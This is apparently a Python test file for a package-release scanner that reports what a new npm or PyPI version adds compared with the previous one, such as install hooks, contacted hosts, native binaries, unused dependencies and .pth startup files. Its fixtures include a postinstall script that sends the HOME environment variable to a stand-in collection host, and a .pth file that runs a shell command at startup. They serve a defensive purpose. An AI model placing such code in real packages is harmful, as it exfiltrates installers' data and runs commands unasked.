"""What is new in a release against the one before it."""

from __future__ import annotations

from typing import TYPE_CHECKING

from gatekeeper.artifacts.opening import open_artifact
from gatekeeper.evidence.changes import changes_between
from gatekeeper.inspection import facts_in
from gatekeeper.model import Change, Release
from tests.support.npm_packages import Packed, package
from tests.support.packages import Built, wheel

if TYPE_CHECKING:
    from pathlib import Path

SENDS = "require('https').get('https://collect.example/x?' + process.env.HOME)\n"


def changes(folder: Path, then: Packed | Built, now: Packed | Built) -> dict[str, list[str]]:
    ecosystem = "npm" if isinstance(now, Packed) else "pypi"
    for name in ("then", "now"):
        (folder / name).mkdir()
    with (
        open_artifact(then.write(folder / "then"), then.filename, ecosystem=ecosystem) as old,
        open_artifact(now.write(folder / "now"), now.filename, ecosystem=ecosystem) as new,
    ):
        release = Release(ecosystem, "acme-thing", "1.0.1")
        facts = facts_in(new, release, None), facts_in(old, release, None)
        found = changes_between((facts[0], new), (facts[1], old), "1.0.0", "patch")
    assert all(isinstance(one, Change) and one.since == "1.0.0" for one in found)
    return {kind: [one.detail for one in found if one.kind == kind] for kind in {one.kind for one in found}}


def test_a_hook_and_what_it_does_are_new(tmp_path: Path) -> None:
    then = package("acme-thing", "1.0.0", files={"index.js": "module.exports = 1\n"})
    now = package(
        "acme-thing", "1.0.1",
        files={"index.js": "module.exports = 1\n", "setup.js": SENDS}, scripts={"postinstall": "node setup.js"},
    )  # fmt: skip
    found = changes(tmp_path, then, now)
    assert "setup.js" in found["hook"]
    assert found["host"] == ["collect.example"]
    assert any("network" in one or "sends" in one for one in found["behaviour"])


def test_the_same_again_is_nothing_new(tmp_path: Path) -> None:
    files = {"index.js": "module.exports = 1\n", "setup.js": SENDS}
    both = [
        package("acme-thing", one, files=files, scripts={"postinstall": "node setup.js"}) for one in ("1.0.0", "1.0.1")
    ]
    assert changes(tmp_path, *both) == {}


def test_a_file_that_carries_its_version_in_its_name_is_the_same(tmp_path: Path) -> None:
    old, new = (
        package("acme-thing", one, files={f"lib/tool-{one}.node": b"\x7fELF" + b"\0" * 64})
        for one in ("1.0.0", "1.0.1")
    )
    assert changes(tmp_path, old, new) == {}


def test_a_native_program_is_new_whatever_its_ending(tmp_path: Path) -> None:
    old = package("acme-thing", "1.0.0")
    new = package("acme-thing", "1.0.1", files={"lib/readme.txt": b"\x7fELF" + b"\0" * 64})
    assert changes(tmp_path, old, new) == {"binary": ["lib/readme.txt"]}


def test_a_dependency_that_no_file_names_is_new_and_one_that_is_used_is_not(tmp_path: Path) -> None:
    files = {"index.js": "require('quietharbour')\n"}
    old = package("acme-thing", "1.0.0", files=files)
    new = package("acme-thing", "1.0.1", files=files, dependencies={"quietharbour": "1", "plain-crypto": "1"})
    assert changes(tmp_path, old, new) == {"dependency": ["plain-crypto"]}


def test_a_startup_file_of_a_wheel_is_new(tmp_path: Path) -> None:
    old = wheel("acme-thing", "1.0.0")
    new = wheel("acme-thing", "1.0.1", files={"acme.pth": "import os; os.system('id')\n"})
    found = changes(tmp_path, old, new)
    assert "acme.pth" in found["startup"]
    assert any("starts a program" in one for one in found["behaviour"])
